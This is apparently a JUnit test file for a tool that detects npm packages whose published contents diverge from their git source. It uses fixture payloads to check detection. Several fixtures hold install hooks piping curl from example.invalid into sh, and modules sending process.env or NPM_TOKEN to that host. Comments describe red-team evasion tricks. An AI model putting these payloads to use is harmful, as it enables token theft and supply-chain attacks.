package dev.divergence.registry.npm;

import static dev.divergence.fixtures.ScanWorld.row;
import static dev.divergence.fixtures.Trees.files;
import static dev.divergence.fixtures.Trees.with;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.divergence.demo.GitHistoryBuilder;
import dev.divergence.fixtures.LocalNpm;
import dev.divergence.fixtures.ScanWorld;
import dev.divergence.model.ArtifactReport;
import dev.divergence.model.DigestStatus;
import dev.divergence.model.FileDivergence;
import dev.divergence.model.FileStatus;
import dev.divergence.model.PackageId;
import dev.divergence.model.RefMethod;
import dev.divergence.model.Release;
import dev.divergence.model.ReleaseReport;
import dev.divergence.model.RiskFlag;
import dev.divergence.model.Verdict;
import dev.divergence.compare.Classifier;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.SortedMap;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.io.TempDir;

/** npm end to end against recorded-style packuments served locally and repositories written with JGit. */
class NpmScanTest {

    @TempDir
    Path dir;
    private GitHistoryBuilder git;
    private Instant when = Instant.parse("2026-01-01T00:00:00Z");

    @BeforeEach
    void repo() throws Exception {
        git = GitHistoryBuilder.init(dir.resolve("repo"));
    }

    private String commit(SortedMap<String, byte[]> tree, String message) throws Exception {
        when = when.plusSeconds(3600);
        return git.commit(tree, message, when);
    }

    private static String pkgJson(String name, String version, String extra) {
        return "{\n  \"name\": \"" + name + "\",\n  \"version\": \"" + version + "\",\n  \"main\": \"./index.js\",\n"
                + "  \"bin\": \"./cli.js\",\n  \"repository\": \"github:acme/widget\"" + extra + "\n}\n";
    }

    /** Version {@code version} of widget, published on {@code npm}, scanned against {@code world}/repo. */
    private ReleaseReport scanIn(Path world, LocalNpm npm, String version) throws Exception {
        npm.write();
        NpmSupport support = new NpmSupport(npm.baseUrl(), ScanWorld.fetcher());
        Release r = support.registry().releases(PackageId.parse("pkg:npm/widget")).stream()
                .filter(x -> x.version().equals(version)).findFirst().orElseThrow();
        return ScanWorld.scanner(support, world).scan(r, Optional.of(world.resolve("repo").toString()));
    }

    private ReleaseReport scan(LocalNpm npm, String pkg, String version) throws Exception {
        npm.write();
        NpmSupport support = new NpmSupport(npm.baseUrl(), ScanWorld.fetcher());
        Release r = support.registry().releases(PackageId.parse(pkg)).stream()
                .filter(x -> x.version().equals(version)).findFirst().orElseThrow();
        return ScanWorld.scanner(support, dir).scan(r, Optional.of(git.dir().toString()));
    }

    @Test
    void scopedMonorepoPackageWithPublishRewriteBuildOutputAndCaseRenameIsExplained() throws Exception {
        SortedMap<String, byte[]> tree = files(
                "README.md", "# monorepo\n",
                "packages/widget/package.json", "{\n  \"name\": \"@acme/widget\",\n  \"version\": \"1.2.0\",\n"
                        + "  \"main\": \"./index.js\",\n  \"bin\": \"./cli.js\",\n"
                        + "  \"repository\": {\"type\": \"git\", \"url\": \"https://github.com/acme/widget\","
                        + " \"directory\": \"packages/widget\"},\n"
                        + "  \"files\": [\"index.js\", \"cli.js\", \"lib\"],\n"
                        + "  \"dependencies\": {\"@acme/util\": \"workspace:^\"},\n  \"publishConfig\": {\"access\": \"public\"}\n}\n",
                "packages/widget/.gitignore", "/lib\n",
                "packages/widget/index.js", "module.exports = require('./lib/impl');\n",
                "packages/widget/cli.js", "#!/usr/bin/env node\nrequire('./index');\n",
                "packages/widget/Readme.md", "# widget\n",
                "packages/widget/src/impl.ts", "export const x = 1;\n",
                "packages/util/package.json", "{\"name\": \"@acme/util\", \"version\": \"1.0.0\"}\n");
        String c = commit(tree, "widget 1.2.0");
        git.tag("@acme/widget@1.2.0", true);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "@acme/widget")) {
            ObjectNode v = npm.publish("1.2.0", files(
                    "package.json", "{\"name\":\"@acme/widget\",\"version\":\"1.2.0\",\"main\":\"index.js\","
                            + "\"bin\":{\"widget\":\"cli.js\"},\"repository\":{\"type\":\"git\","
                            + "\"url\":\"git+https://github.com/acme/widget.git\",\"directory\":\"packages/widget\"},"
                            + "\"files\":[\"index.js\",\"cli.js\",\"lib\"],\"dependencies\":{\"@acme/util\":\"^1.0.0\"}}",
                    "index.js", "module.exports = require('./lib/impl');\n",
                    "cli.js", "#!/usr/bin/env node\nrequire('./index');\n",
                    "README.md", "# widget\n",
                    "lib/impl.js", "exports.x = 1;\n",
                    "lib/impl.d.ts", "export declare const x = 1;\n"));
            ObjectNode repo = v.putObject("repository");
            repo.put("type", "git");
            repo.put("url", "git+https://github.com/acme/widget.git");
            repo.put("directory", "packages/widget");
            ReleaseReport r = scan(npm, "pkg:npm/%40acme/widget", "1.2.0");
            assertEquals(RefMethod.TAG, r.ref().method());
            assertEquals(c, r.ref().commit().orElseThrow());
            assertEquals(List.of("https://github.com/acme/widget"), r.release().hints().repositoryUrls());
            assertEquals(Optional.of("packages/widget"), r.release().hints().directory());
            ArtifactReport a = r.artifacts().get(0);
            assertEquals(DigestStatus.VERIFIED, a.digestStatus());
            FileDivergence pj = row(a, "package/package.json");
            assertEquals(FileStatus.MATCH_NORMALIZED, pj.status());
            assertEquals(NpmGeneratedFiles.PACKAGE_JSON_REWRITE, pj.ruleId());
            assertEquals("packages/widget/package.json", pj.sourcePath().orElseThrow());
            assertEquals(FileStatus.MATCH, row(a, "package/index.js").status());
            FileDivergence readme = row(a, "package/README.md");
            assertEquals(FileStatus.MATCH_NORMALIZED, readme.status());
            assertEquals("packages/widget/Readme.md", readme.sourcePath().orElseThrow());
            assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/lib/impl.js").status());
            assertEquals(NpmGeneratedFiles.BUILD_OUTPUT, row(a, "package/lib/impl.d.ts").ruleId());
            assertEquals(FileStatus.SOURCE_ONLY, row(a, "packages/widget/src/impl.ts").status());
            assertTrue(a.files().stream().noneMatch(f -> f.displayPath().startsWith("packages/util")),
                    "the sibling package is outside the directory's scope");
            assertEquals(Verdict.EXPLAINED, r.verdict());
        }
    }

    @Test
    void addedPostinstallWithANewFileIsHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "2.0.0", ""),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        commit(tree, "2.0.0");
        git.tag("v2.0.0", false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("2.0.1", with(tree,
                    "package.json", pkgJson("widget", "2.0.1", ",\n  \"scripts\": {\"postinstall\": \"node setup_bun.js\"}"),
                    "setup_bun.js", "require('child_process').execSync('curl -s https://example.invalid | sh');\n"));
            ReleaseReport r = scan(npm, "pkg:npm/widget", "2.0.1");
            ArtifactReport a = r.artifacts().get(0);
            FileDivergence pj = row(a, "package/package.json");
            assertEquals(FileStatus.MODIFIED, pj.status());
            assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, pj.ruleId());
            assertTrue(pj.riskFlags().contains(RiskFlag.INSTALL_SCRIPT));
            assertTrue(pj.highRisk());
            assertEquals("adds postinstall: node setup_bun.js", pj.detail().orElseThrow());
            FileDivergence script = row(a, "package/setup_bun.js");
            assertEquals(FileStatus.PHANTOM, script.status());
            // The file the new postinstall runs is execution-relevant in its own right.
            assertTrue(script.riskFlags().contains(RiskFlag.AUTO_EXEC));
            assertEquals(Verdict.HIGH_RISK, r.verdict());
            assertEquals(List.of("package/package.json", "package/setup_bun.js"), a.highRiskPaths());
        }
    }

    @Test
    void aNewDependencyAloneIsHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "3.0.0",
                ",\n  \"dependencies\": {\"left-pad\": \"^1.0.0\"},\n  \"devDependencies\": {\"tap\": \"^18\"}"),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        commit(tree, "3.0.0");
        git.tag("v3.0.0", true);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("3.0.0", with(tree, "package.json", pkgJson("widget", "3.0.0",
                    ",\n  \"dependencies\": {\"left-pad\": \"^1.0.0\", \"tap\": \"^18\", \"plain-crypto-js\": \"^4.2.1\"},\n"
                            + "  \"devDependencies\": {\"tap\": \"^18\"}")));
            ReleaseReport r = scan(npm, "pkg:npm/widget", "3.0.0");
            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
            assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId());
            assertEquals(Set.of(RiskFlag.NEW_DEPENDENCY), pj.riskFlags());
            assertEquals("new dependencies [plain-crypto-js, tap]", pj.detail().orElseThrow());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
            // Every other file is identical: the manifest alone decides.
            assertEquals(1, r.artifacts().get(0).divergentPaths().size());
        }
    }

    @Test
    void theTagIsPreferredToGitHeadAndTheirDisagreementIsAFinding() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.0.0", ""), "index.js", "a\n",
                "cli.js", "b\n");
        String tagged = commit(tree, "4.0.0");
        git.tag("widget@4.0.0", true);
        String head = commit(with(tree, "CHANGELOG.md", "4.0.0\n"), "changelog");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("4.0.0", tree).put("gitHead", head);
            ReleaseReport r = scan(npm, "pkg:npm/widget", "4.0.0");
            // gitHead is written by the publisher (a stolen token can write it); the tag cannot be pushed with one.
            assertEquals(RefMethod.TAG, r.ref().method());
            assertEquals(tagged, r.ref().commit().orElseThrow());
            assertEquals(Optional.of("widget@4.0.0"), r.ref().tag());
            assertFalse(r.ref().agreement().orElseThrow());
            assertTrue(r.ref().note().orElseThrow().startsWith("registry-recorded commit " + head.substring(0, 12)
                    + " is the publisher's claim; compared with tag widget@4.0.0 " + tagged.substring(0, 12)
                    + " instead"), r.ref().note().orElseThrow());
        }
    }

    @Test
    void aRecordedCommitWhosePayloadALaterCommitOfTheSameVersionRevertedIsComparedWithTheLaterOne() throws Exception {
        // red9 case3: 1.0.1 untagged; P adds a postinstall, the next commit reverts it; the tarball is P's files
        // and gitHead names P. A later commit that changes the code without undoing P keeps P.
        SortedMap<String, byte[]> base = files("package.json", pkgJson("widget", "1.0.0", ""), "index.js", "a\n",
                "cli.js", "b\n");
        commit(base, "1.0.0");
        git.tag("v1.0.0", false);
        SortedMap<String, byte[]> prep = with(base, "package.json", pkgJson("widget", "1.0.1", ""));
        commit(prep, "prep 1.0.1");
        SortedMap<String, byte[]> payload = with(prep, "package.json", pkgJson("widget", "1.0.1",
                ",\n  \"scripts\": {\"postinstall\": \"curl -s https://example.invalid/p | sh\"}"));
        String p = commit(payload, "add install hook");
        String reverted = commit(prep, "Revert add install hook");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("1.0.1", payload).put("gitHead", p);
            ReleaseReport r = scan(npm, "pkg:npm/widget", "1.0.1");
            assertEquals(RefMethod.REGISTRY_COMMIT, r.ref().method());
            assertEquals(reverted, r.ref().commit().orElseThrow());
            assertFalse(r.ref().agreement().orElseThrow());
            assertTrue(r.ref().note().orElseThrow().contains(p.substring(0, 12) + " holds code or a manifest that "
                    + reverted.substring(0, 12)), r.ref().note().orElseThrow());
            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
            assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, pj.ruleId());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void anInstallScriptTheNextCommitRevertsWhileMovingTheVersionIsComparedWithThatCommit() throws Exception {
        // red10 case5: as red9 case3, but the commit reverting the postinstall also starts 1.0.2-dev (the publisher
        // writes the version field, so no later commit declares 1.0.1): the revert still names the baseline
        SortedMap<String, byte[]> base = files("package.json", pkgJson("widget", "1.0.0", ""), "index.js", "a\n",
                "cli.js", "b\n");
        commit(base, "1.0.0");
        git.tag("v1.0.0", false);
        SortedMap<String, byte[]> prep = with(base, "package.json", pkgJson("widget", "1.0.1", ""));
        commit(prep, "prep 1.0.1");
        SortedMap<String, byte[]> payload = with(prep, "package.json", pkgJson("widget", "1.0.1",
                ",\n  \"scripts\": {\"postinstall\": \"curl -s https://example.invalid/p | sh\"}"));
        String p = commit(payload, "add install hook");
        String reverted = commit(with(prep, "package.json", pkgJson("widget", "1.0.2-dev", "")),
                "revert hook; start 1.0.2-dev");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("1.0.1", payload).put("gitHead", p);
            ReleaseReport r = scan(npm, "pkg:npm/widget", "1.0.1");
            assertEquals(RefMethod.REGISTRY_COMMIT, r.ref().method());
            assertEquals(reverted, r.ref().commit().orElseThrow());
            assertFalse(r.ref().agreement().orElseThrow());
            assertTrue(r.ref().note().orElseThrow().contains(p.substring(0, 12) + " holds code or a manifest that "
                    + reverted.substring(0, 12)), r.ref().note().orElseThrow());
            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
            assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, pj.ruleId());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
        }
    }

    @Test
    void anInstallScriptChangedOtherwiseOrRemovedAfterTheVersionMovedKeepsTheRecordedCommit() throws Exception {
        // the control of red10 case5: a release whose postinstall the next version's work changes (the bump commit
        // changes it to another command, a later 1.0.2-dev commit removes it) was released as it is
        SortedMap<String, byte[]> base = files("package.json", pkgJson("widget", "1.0.0", ""), "index.js", "a\n",
                "cli.js", "b\n", "setup.js", "0;\n");
        commit(base, "1.0.0");
        git.tag("v1.0.0", false);
        SortedMap<String, byte[]> released = with(base, "package.json", pkgJson("widget", "1.0.1",
                ",\n  \"scripts\": {\"postinstall\": \"node setup.js\"}"));
        String p = commit(released, "1.0.1: set up on install");
        commit(with(released, "package.json", pkgJson("widget", "1.0.2-dev",
                ",\n  \"scripts\": {\"postinstall\": \"node setup.js --quiet\"}")), "start 1.0.2-dev, quieter");
        commit(with(base, "package.json", pkgJson("widget", "1.0.2-dev", "")), "drop the install step");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("1.0.1", released).put("gitHead", p);
            ReleaseReport r = scan(npm, "pkg:npm/widget", "1.0.1");
            assertEquals(RefMethod.REGISTRY_COMMIT, r.ref().method());
            assertEquals(p, r.ref().commit().orElseThrow());
            assertEquals(Verdict.CLEAN, r.verdict());
        }
    }

    @org.junit.jupiter.params.ParameterizedTest
    @org.junit.jupiter.params.provider.ValueSource(booleans = {false, true})
    void anInstallScriptOnlyASideBranchDeclaresIsHighRiskAndOneTheDefaultBranchDeclaredIsNot(boolean reviewed)
            throws Exception {
        // red9 case2: gitHead names a commit only wip/telemetry holds, which adds a postinstall: the package.json
        // matches that commit, but no reviewed commit declares the script. The control keeps a postinstall that
        // main declares (same version published from a release branch): only DIVERGENT for the side branch.
        {
            String own = reviewed ? ",\n  \"scripts\": {\"postinstall\": \"node setup.js\"}" : "";
            SortedMap<String, byte[]> base = files("package.json", pkgJson("widget", "1.0.0", own), "index.js", "a\n",
                    "cli.js", "b\n", "setup.js", "0;\n");
            commit(base, "1.0.0");
            git.tag("v1.0.0", false);
            SortedMap<String, byte[]> prep = with(base, "package.json", pkgJson("widget", "1.0.1", own));
            String main = commit(prep, "prep 1.0.1");
            SortedMap<String, byte[]> side = reviewed ? with(prep, "index.js", "a2\n") : with(prep, "package.json",
                    pkgJson("widget", "1.0.1", ",\n  \"scripts\": {\"postinstall\": \"curl -s https://example.invalid | sh\"}"));
            String wip = commit(side, "wip");
            try (org.eclipse.jgit.lib.Repository repo = new org.eclipse.jgit.storage.file.FileRepositoryBuilder()
                    .setGitDir(git.dir().resolve(".git").toFile()).setMustExist(true).build()) {
                for (String[] ref : new String[][] {{"refs/heads/wip/telemetry", wip}, {"refs/heads/main", main}}) {
                    org.eclipse.jgit.lib.RefUpdate u = repo.updateRef(ref[0]);
                    u.setNewObjectId(org.eclipse.jgit.lib.ObjectId.fromString(ref[1]));
                    u.forceUpdate();
                }
            }
            try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
                npm.publish("1.0.1", side).put("gitHead", wip);
                ReleaseReport r = scan(npm, "pkg:npm/widget", "1.0.1");
                assertEquals(wip, r.ref().commit().orElseThrow());
                assertEquals(Optional.of("wip/telemetry"), r.ref().baselineBranch());
                FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
                if (reviewed) {
                    assertFalse(pj.highRisk(), pj.toString());
                    assertEquals(Verdict.DIVERGENT, r.verdict());
                } else {
                    assertEquals("compare.unreviewed-install-script", pj.ruleId());
                    assertTrue(pj.riskFlags().contains(RiskFlag.INSTALL_SCRIPT));
                    assertTrue(pj.detail().orElseThrow().contains("declares postinstall: curl -s https://example.invalid"
                            + " | sh, which no commit of the default branch or a tag declares"), pj.detail().orElseThrow());
                    assertEquals(Verdict.HIGH_RISK, r.verdict());
                }
            }
        }
    }

    @Test
    void aRecordedCommitALaterCommitOfTheSameVersionChangedWithoutRevertingStaysTheBaseline() throws Exception {
        SortedMap<String, byte[]> base = files("package.json", pkgJson("widget", "1.0.0", ""), "index.js", "a\n",
                "cli.js", "b\n");
        commit(base, "1.0.0");
        git.tag("v1.0.0", false);
        SortedMap<String, byte[]> released = with(base, "package.json", pkgJson("widget", "1.0.1", ""),
                "index.js", "a2\n");
        String p = commit(released, "1.0.1");
        commit(with(released, "index.js", "a3\n"), "more work before the next bump");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("1.0.1", released).put("gitHead", p);
            ReleaseReport r = scan(npm, "pkg:npm/widget", "1.0.1");
            assertEquals(RefMethod.REGISTRY_COMMIT, r.ref().method());
            assertEquals(p, r.ref().commit().orElseThrow());
            assertEquals(Verdict.CLEAN, r.verdict());
        }
    }

    @Test
    void provenanceAttestationNamingAnEarlierCommitThanAMovedTagIsRecordedAndTheTagKept() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "5.0.0", ""), "index.js", "a\n",
                "cli.js", "b\n");
        String built = commit(tree, "5.0.0");
        String other = commit(with(tree, "index.js", "changed later\n"), "later");
        git.tag("v5.0.0", false); // the tag sits on a later commit than the one CI built
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            ObjectNode v = npm.publish("5.0.0", tree);
            String sha512 = java.util.HexFormat.of().formatHex(Base64.getDecoder()
                    .decode(v.path("dist").path("integrity").asText().substring("sha512-".length())));
            String statement = "{\"_type\":\"https://in-toto.io/Statement/v1\",\"subject\":[{\"name\":\"pkg:npm/widget@5.0.0\","
                    + "\"digest\":{\"sha512\":\"" + sha512 + "\"}}],\"predicateType\":\"https://slsa.dev/provenance/v1\","
                    + "\"predicate\":{\"buildDefinition\":{\"resolvedDependencies\":[{\"uri\":"
                    + "\"git+https://github.com/acme/widget@refs/heads/main\",\"digest\":{\"gitCommit\":\"" + built + "\"}}]}}}";
            String doc = "{\"attestations\":[{\"predicateType\":\"https://slsa.dev/provenance/v1\",\"bundle\":{"
                    + "\"dsseEnvelope\":{\"payloadType\":\"application/vnd.in-toto+json\",\"payload\":\""
                    + Base64.getEncoder().encodeToString(statement.getBytes(StandardCharsets.UTF_8)) + "\"}}}]}";
            Path att = npm.root().resolve("-/npm/v1/attestations/widget@5.0.0");
            Files.createDirectories(att.getParent());
            Files.writeString(att, doc);
            v.with("dist").putObject("attestations").put("url", npm.baseUrl() + "/-/npm/v1/attestations/widget@5.0.0");
            ReleaseReport r = scan(npm, "pkg:npm/widget", "5.0.0");
            // The attestation is not verified here: the publisher's claim never overrides the tag, and the earlier
            // commit holding code the tag changed since does not replace it either (the shape of a payload committed
            // and reverted before the tag). The moved tag shows as a divergence a human clears.
            assertEquals(RefMethod.TAG, r.ref().method());
            assertEquals(other, r.ref().commit().orElseThrow());
            assertTrue(r.ref().candidates().containsAll(List.of("attestation:" + built, "tag:v5.0.0=" + other)));
            assertFalse(r.ref().agreement().orElseThrow());
            assertTrue(r.ref().note().orElseThrow().contains("kept tag commit: " + built.substring(0, 12)
                    + ", an ancestor of it, holds code it changed since (index.js)"), r.ref().note().orElseThrow());
            assertEquals(Verdict.DIVERGENT, r.verdict());
        }
    }

    @Test
    void packumentListsDeprecatedAndUnpublishedVersions() throws Exception {
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("1.0.0", files("package.json", "{}")).put("deprecated", "use 2.x");
            npm.publish("2.0.0", files("package.json", "{}"));
            ((ObjectNode) npm.packument().get("time")).put("1.5.0", "2026-01-15T00:00:00.000Z");
            npm.write();
            List<Release> rs = new NpmRegistry(npm.baseUrl(), ScanWorld.fetcher()).releases(PackageId.parse("pkg:npm/widget"));
            assertEquals(List.of("1.0.0", "1.5.0", "2.0.0"), rs.stream().map(Release::version).toList());
            assertTrue(rs.get(0).yanked());
            assertEquals(Optional.of("deprecated: use 2.x"), rs.get(0).yankedReason());
            assertEquals(List.of(), rs.get(1).artifacts());
            assertEquals(Optional.of("unpublished from the registry"), rs.get(1).yankedReason());
            assertEquals(Set.of("sha512", "sha1"), rs.get(2).artifacts().get(0).digests().keySet());
        }
    }

    private ArtifactReport publishAndScan(SortedMap<String, byte[]> tree, String version, SortedMap<String, byte[]> shipped)
            throws Exception {
        commit(tree, version);
        git.tag("v" + version, false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish(version, shipped);
            return scan(npm, "pkg:npm/widget", version).artifacts().get(0);
        }
    }

    @Test
    void aFileAPublishScriptWritesByRedirectIsBuildOutputStillScannedAndNeverAnEntryOrTheManifest() throws Exception {
        String scripts = ",\n  \"scripts\": {\"prepublish\": \"node build/build.js > types.json && node b > index.js\","
                + " \"prepare\": \"runmd --output README.md src/README_js.md; node c > lib/run.js\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.0", scripts),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                "types.json", "{\"a\":[\"x\"]}\n", "README.md", "# widget\n");
        String longJson = "{\"b\":[\"" + "y".repeat(5000) + "\"]}";
        ArtifactReport a = publishAndScan(tree, "4.9.0", with(tree, "types.json", longJson,
                "README.md", "# widget\n\nrendered\n",
                "lib/run.js", "require('child_process').exec('curl -s https://example.invalid | sh');\n",
                "index.js", "module.exports = 2;\n"));
        FileDivergence types = row(a, "package/types.json");
        assertEquals(FileStatus.BUILD_OUTPUT, types.status());
        assertTrue(types.detail().orElseThrow().contains("prepublish script"), types.detail().orElseThrow());
        assertFalse(types.riskFlags().contains(RiskFlag.OBFUSCATED), "one-line JSON is JSON.stringify's output");
        assertFalse(types.highRisk());
        assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/README.md").status());
        FileDivergence run = row(a, "package/lib/run.js");
        assertEquals(FileStatus.BUILD_OUTPUT, run.status());
        assertTrue(run.highRisk(), "a written file's content is still scanned");
        // the main module a script overwrites stays compared with the commit's
        FileDivergence main = row(a, "package/index.js");
        assertEquals(FileStatus.MODIFIED, main.status());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void anUntrackedBundleAScriptRunByAPublishScriptWritesIsBuildOutputATrackedOneStaysCompared() throws Exception {
        // qs: "prepublish": "npm run dist", "dist": "browserify ... lib/index.js > dist/qs.js", dist/qs.js committed
        // (and rebuilt with newer dependencies at every publish); "bundle" no publish script runs
        String scripts = ",\n  \"scripts\": {\"prepublish\": \"not-in-publish || npm run --silent dist\","
                + " \"dist\": \"browserify --standalone Qs index.js > dist/qs.js\","
                + " \"postdist\": \"node banner > dist/banner.js\", \"bundle\": \"node b > dist/other.js\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.0", scripts),
                "index.js", "module.exports = 1;\n", "dist/other.js", "var o = 1;\n");
        ArtifactReport a = publishAndScan(tree, "4.9.0", with(tree, "dist/qs.js", "(function(){ var a = 2; })();\n",
                "dist/banner.js", "require('child_process').exec('curl -s https://example.invalid | sh');\n",
                "dist/other.js", "var o = 2;\n"));
        FileDivergence qs = row(a, "package/dist/qs.js");
        assertEquals(FileStatus.BUILD_OUTPUT, qs.status(), qs.toString());
        assertTrue(qs.detail().orElseThrow().contains("dist script (run by prepublish)"), qs.detail().orElseThrow());
        assertFalse(qs.highRisk());
        FileDivergence banner = row(a, "package/dist/banner.js");
        assertEquals(FileStatus.BUILD_OUTPUT, banner.status());
        assertTrue(banner.highRisk(), "a written file's content is still scanned");
        assertEquals(FileStatus.MODIFIED, row(a, "package/dist/other.js").status());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void aModuleAPublishScriptWritesThatThePackagesCodeLoadsIsNotBuildOutputButDataAndUnloadedFilesAre() throws Exception {
        // red9 case9: "prepare": "node -p \"'module.exports = ' + ...version\" > version.js", index.js requires it;
        // the shipped version.js also sends process.env away at require time. lib/data.json (required, parsed as
        // data) and dist/bundle.js (nothing loads it) stay build output.
        String scripts = ",\n  \"scripts\": {\"prepare\": \"node -p \\\"'module.exports = ' + JSON.stringify("
                + "require('./package.json').version)\\\" > version.js && node d > lib/data.json"
                + " && node b > dist/bundle.js && node c > lib/helper.js\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.0", scripts),
                ".gitignore", "version.js\n", "index.js", "exports.version = require('./version.js');\n"
                        + "exports.data = require('./lib/data');\n", "cli.js", "require('./index');\n",
                "lib/use.js", "var h = '../lib/helper';\nmodule.exports = h;\n");
        ArtifactReport a = publishAndScan(tree, "4.9.0", with(tree,
                "version.js", "module.exports = \"4.9.0\";\nrequire(\"https\").get(\"https://example.invalid/c?d=\" + "
                        + "Buffer.from(JSON.stringify(process.env)).toString(\"base64\"));\n",
                "lib/data.json", "{\"a\":1}\n", "dist/bundle.js", "(function(){ var a = 2; })();\n",
                "lib/helper.js", "module.exports = 3;\n"));
        FileDivergence version = row(a, "package/version.js");
        assertEquals(FileStatus.PHANTOM, version.status());
        assertEquals("compare.unexplained", version.ruleId());
        // a module loaded through a string literal that is not a require argument is still loaded
        assertEquals(FileStatus.PHANTOM, row(a, "package/lib/helper.js").status());
        assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/lib/data.json").status());
        assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/dist/bundle.js").status());
        assertTrue(a.verdict() == Verdict.DIVERGENT || a.verdict() == Verdict.HIGH_RISK, a.verdict().toString());
    }

    @Test
    void aWrittenModuleTheCodeCanReachByAComputedNameOrNamesByItsFileNameIsNotBuildOutput() throws Exception {
        // red10 case3: index.js loads the prepare-written version.js by require(path.join(__dirname, "version"));
        // any computed require could be loading any written module, and a file named in a path is one the code uses
        String scripts = ",\n  \"scripts\": {\"prepare\": \"node -p \\\"'module.exports = ' + JSON.stringify("
                + "require('./package.json').version)\\\" > version.js && node b > dist/bundle.js\"}";
        String payload = "module.exports = \"4.9.3\";\nrequire(\"https\").get(\"https://example.invalid/c?d=\" + "
                + "Buffer.from(JSON.stringify(process.env)).toString(\"base64\"));\n";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.3", scripts),
                ".gitignore", "version.js\n", "index.js", "exports.version = require(require(\"path\").join(__dirname,"
                        + " \"version\"));\n", "cli.js", "require('./index');\n");
        ArtifactReport a = publishAndScan(tree, "4.9.3", with(tree, "version.js", payload,
                "dist/bundle.js", "(function(){ var a = 2; })();\n"));
        assertEquals(FileStatus.PHANTOM, row(a, "package/version.js").status());
        assertEquals(FileStatus.PHANTOM, row(a, "package/dist/bundle.js").status(), "a computed require reaches any");
        assertTrue(a.verdict() == Verdict.DIVERGENT || a.verdict() == Verdict.HIGH_RISK, a.verdict().toString());
    }

    @Test
    void aWrittenModuleTheCodeCanReachThroughRequireHandedOnAsAValueIsNotBuildOutput() throws Exception {
        // require passed to a helper (or assigned) can load any name: every written module may be what it loads
        String scripts = ",\n  \"scripts\": {\"prepare\": \"node b > dist/bundle.js\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.5", scripts),
                "index.js", "module.exports = require('./loader')(require);\n",
                "loader.js", "module.exports = function (r) { return function (n) { return r(n); }; };\n",
                "cli.js", "require('./index');\n");
        ArtifactReport a = publishAndScan(tree, "4.9.5", with(tree, "dist/bundle.js",
                "require('https').get('https://example.invalid/?' + process.env.NPM_TOKEN);\n"));
        assertEquals(FileStatus.PHANTOM, row(a, "package/dist/bundle.js").status());
        assertTrue(a.verdict() == Verdict.DIVERGENT || a.verdict() == Verdict.HIGH_RISK, a.verdict().toString());
    }

    @Test
    void aWrittenModuleLoadedFromAnExtensionlessBinOrItselfExtensionlessIsNotBuildOutput() throws Exception {
        // red team round 7 (case5, case5b): bin/gencli (no extension) requires ../lib/gen.js; index.js requires ./lib/conf
        String scripts = ",\n  \"scripts\": {\"prepare\": \"node tools/gen.js > lib/gen.js && node tools/c.js > lib/conf\"}";
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.9.6", scripts).replace(
                        "\"bin\": \"./cli.js\"", "\"bin\": {\"gencli\": \"bin/gencli\"}"),
                ".gitignore", "lib/gen.js\nlib/conf\n", "index.js", "module.exports = require('./lib/conf');\n",
                "bin/gencli", "#!/usr/bin/env node\nrequire('../lib/gen.js');\n", "tools/gen.js", "0;\n", "tools/c.js", "0;\n");
        String payload = "require('https').get('https://example.invalid/?' + process.env.NPM_TOKEN);\n";
